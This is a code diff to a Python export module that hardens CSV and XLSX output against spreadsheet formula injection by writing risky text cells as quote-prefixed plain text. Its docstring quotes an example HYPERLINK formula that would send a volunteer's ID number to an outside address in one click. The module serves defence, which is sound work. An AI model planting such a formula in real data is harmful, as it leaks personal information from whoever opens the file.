@@ -3,8 +3,10 @@
 A text cell that starts with = + - @ (or a tab or carriage return) is run as a
 formula by spreadsheet programs: a volunteer whose skills read
 `=HYPERLINK("http://…?"&E2, "点击")` would send the ID number beside it out
-with one click. As OWASP advises, such a cell is written with a leading
-apostrophe, which Excel shows as text and does not display. Numbers stay numbers.
+with one click. In a CSV such a cell gets a leading apostrophe, as OWASP
+advises. In an XLSX it is written as a text cell marked "quote prefix", which
+is what Excel itself records when someone types '=…: shown as typed, never run.
+Numbers stay numbers.
 """
 
 from __future__ import annotations
@@ -13,6 +15,8 @@ import csv
 import io
 from collections.abc import Iterable, Iterator
 from typing import Any
+
+from openpyxl.cell import WriteOnlyCell
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -45,6 +49,13 @@ def csv_chunks(rows: Iterable[Iterable[Any]], *, flush_bytes: int = 0) -> Iterat
 
 
 def append_rows(sheet: Any, rows: Iterable[Iterable[Any]]) -> None:
-    """The rows onto a (write-only) openpyxl sheet, every text cell neutralised."""
+    """The rows onto a (write-only) openpyxl sheet, every text cell that could be run written as plain text."""
     for row in rows:
-        sheet.append(safe_row(row))
+        sheet.append([_text_cell(sheet, cell) if neutralised(cell) is not cell else cell for cell in row])
+
+
+def _text_cell(sheet: Any, value: str) -> WriteOnlyCell:
+    cell = WriteOnlyCell(sheet, value=value)
+    cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
+    cell.quotePrefix = True
+    return cell
